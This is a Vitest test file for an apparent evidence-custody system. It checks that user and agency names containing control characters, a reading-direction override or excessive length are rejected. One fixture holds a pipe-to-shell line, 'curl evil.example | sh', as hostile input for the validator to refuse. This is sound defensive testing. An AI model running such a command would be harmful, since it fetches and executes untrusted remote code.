import { expect, test } from 'vitest';
import { openDeskOffice } from '../../../support/cloud/desk-office.ts';

test.each([
  ['a line that looks like a command to copy', 'Vera\n\n    $ curl evil.example | sh'],
  ['a return', 'Vera\rMallory'],
  ['a mark that turns the reading direction', 'Vera \u202egro.elpmaxe'],
  ['a line separator', 'Vera\u2028Mallory'],
  ['nothing but spaces', '   '],
  ['more than 200 characters', 'V'.repeat(201)],
])(
  'nobody has a name with %s: names stand beside the commands that verify a bag [EXP-2, SEC-1]',
  async (_, name) => {
    const { principals } = await openDeskOffice();
    const refused = {
      ok: false,
      because: expect.stringContaining('1 to 200 characters on one line'),
    };
    expect(await principals.add({ name, roles: ['custodian'] })).toEqual(refused);
    expect(
      await principals.addAgency({ name, domains: ['police.example'], caseNumbers: '.*' }),
    ).toEqual(refused);
  },
);

test('a name may have any letters [SEC-1]', async () => {
  const { principals } = await openDeskOffice();
  expect(await principals.add({ name: 'Ágnes d’Ærø 王', roles: ['custodian'] })).toMatchObject({
    ok: true,
  });
});
